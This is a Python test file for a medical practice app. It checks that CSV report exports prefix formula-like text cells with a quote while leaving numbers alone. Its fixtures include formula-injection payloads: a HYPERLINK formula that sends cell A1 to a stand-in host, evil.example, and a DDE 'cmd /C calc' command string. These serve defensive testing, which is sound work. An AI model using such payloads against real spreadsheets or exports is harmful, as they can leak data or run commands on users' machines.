"""CSV exports never hand a spreadsheet a formula: text cells from user data that start like one
are prefixed with a quote; numbers stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

from hypothesis import given
from hypothesis import strategies as st

from openpractice.csv_export import FORMULA_STARTS, neutralise, write_rows
from openpractice.practices.roles import Role


def _text(response) -> str:
    """A download's text, whether written at once or streamed row by row (aged debt)."""
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return body.decode()


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_formula_text_is_quoted_and_numbers_are_not():
    assert (
        neutralise('=HYPERLINK("http://evil.example/?"&A1,"Click")')
        == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    )
    for start in ("+", "-", "@", "\t", "\r"):
        assert neutralise(f"{start}cmd|' /C calc'!A0") == f"'{start}cmd|' /C calc'!A0"
    assert neutralise(Decimal("-12.50")) == Decimal("-12.50")  # a refund stays a number that sums
    assert neutralise(-3) == -3 and neutralise(None) == "" and neutralise("Bupa") == "Bupa"
    assert neutralise("-12.50") == "'-12.50"  # text that looks like a number is still text from a person


@given(st.text())
def test_no_written_text_cell_starts_like_a_formula(value):
    stream = io.StringIO(newline="")
    write_rows(stream, ["Name"], [[value], [Decimal("-1.00")]])
    rows = _cells(stream.getvalue())
    assert rows[1] == [neutralise(value)] and rows[2] == ["-1.00"]
    assert not rows[1][0].startswith(FORMULA_STARTS) and rows[1][0] in (value, "'" + value)


def test_report_export_neutralises_an_insurer_named_like_a_formula(practice, make_member, client_for, insurer_contact):
    from openpractice.billing import services as billing
    from openpractice.patients import services as patients
    from openpractice.practices.models import Membership
    from openpractice.products import services as products

    user = make_member(practice, Role.BILLING)
    doctor = Membership.objects.get(practice=practice, user=make_member(practice, Role.PRACTITIONER))
    insurer = insurer_contact(practice, "bup", name='=HYPERLINK("http://evil.example","Bupa")')
    patient = patients.create_patient(
        practice=practice, data={"first_name": "@SUM(1+1)", "last_name": "-2+3", "date_of_birth": dt.date(1980, 4, 12)}
    )
    insurance = patients.add_relationship(
        patient=patient,
        data={
            "relationship_type": "insurance",
            "related_contact": insurer,
            "related_patient": None,
            "registration_number": "10000001",
        },
    )
    product = products.create_product(
        practice=practice,
        data={
            "product_type": "appointment",
            "name": "Consultation",
            "procedure_type": "",
            "duration_minutes": 30,
            "list_price": Decimal("180.00"),
            "vat_treatment": "exempt",
            "industry_standard_code": "",
            "procedure_code": "",
        },
    )
    invoice = billing.create_invoice(
        practice=practice,
        data={
            "bill_to": "insurer",
            "patient": patient,
            "insurance": insurance,
            "practitioner": doctor,
            "invoice_date": dt.date(2026, 1, 5),
        },
        lines=[{"product": product, "service_date": dt.date(2026, 1, 5), "quantity": 1}],
    )
    billing.issue_invoice(invoice=invoice)
    client = client_for(user)
    for url in (
        "/reports/aged-debt/?format=csv",
        "/reports/aged-debt/?format=csv&by=patient",
        "/reports/bills/?format=csv",
        "/reports/payments/?format=csv",
        "/reports/days-to-payment/?format=csv",
    ):
        rows = _cells(_text(client.get(url)))
        for row in rows:
            for cell in row:
                assert not cell.startswith(FORMULA_STARTS), (url, row)
    by_insurer = _cells(_text(client.get("/reports/aged-debt/?format=csv")))
    assert by_insurer[1][0] == '\'=HYPERLINK("http://evil.example","Bupa")' and by_insurer[1][-2] == "180.00"
